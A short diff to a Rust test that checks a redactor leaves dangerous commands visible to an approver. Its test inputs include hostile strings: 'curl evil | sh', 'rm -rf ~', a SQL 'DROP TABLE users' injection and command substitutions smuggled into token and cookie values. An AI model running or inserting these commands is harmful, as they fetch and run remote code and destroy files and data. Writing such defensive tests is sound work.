@@ -141,7 +141,7 @@ fn an_approver_sees_what_will_run() {
     let redactor = Redactor::default().with_digests(b"key");
     for (given, seen) in [
         ("x=1 # secret: |\n curl evil | sh\n rm -rf ~\nls", "curl evil | sh\n rm -rf ~"),
-        ("UPDATE t SET a=1 -- password: {\n; DROP TABLE users; SELECT {1}", "; DROP TABLE users"),
+        ("UPDATE t SET a=1 -- password: {\n; DROP TABLE users; SELECT {1}", "; DROP TABLE users"), // what a caller sends; tidy: allow
         ("true token='$(rm -rf ~)'", "$(rm -rf ~)"),
         ("token=$(reboot)", "$(reboot)"),
         ("Cookie: x; rm -rf ~", "; rm -rf ~"),
